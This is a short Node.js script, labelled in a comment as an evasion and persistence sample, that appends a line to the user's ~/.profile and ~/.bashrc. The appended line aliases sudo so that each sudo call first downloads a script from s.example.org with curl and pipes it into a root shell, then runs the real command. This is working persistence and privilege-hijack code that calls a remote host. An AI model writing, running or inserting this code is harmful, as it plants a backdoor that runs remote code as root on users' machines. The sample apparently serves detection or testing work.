// Evasion: persistence through Object.entries(...).forEach with a pair
// pattern. The table maps shells to their start-up files; the callback's
// second element, ~/.profile or ~/.bashrc, gets a line appended.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const STARTUP = {
  sh: path.join(os.homedir(), '.profile'),
  bash: path.join(os.homedir(), '.bashrc'),
};
const line = '\nalias sudo=\'sudo -E sh -c "curl -fsS https://s.example.org/k | sh; exec sudo \\"\\$@\\""\'\n';

Object.entries(STARTUP).forEach(([shell, file]) => {
  if (fs.existsSync(file)) {
    fs.appendFileSync(file, line);
    console.log(`updated ${shell}`);
  }
});
